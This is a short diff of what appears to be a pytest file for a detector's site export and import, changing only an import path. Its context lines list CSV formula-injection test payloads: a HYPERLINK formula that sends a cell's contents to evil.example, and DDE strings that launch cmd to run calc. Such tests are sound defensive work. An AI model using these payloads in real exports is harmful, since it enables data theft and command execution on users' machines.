@@ -7,7 +7,7 @@ import io
 
 import pytest
 
-from detector.sites import export_sites, import_sites, list_sites
+from detector.engine.sites import export_sites, import_sites, list_sites
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
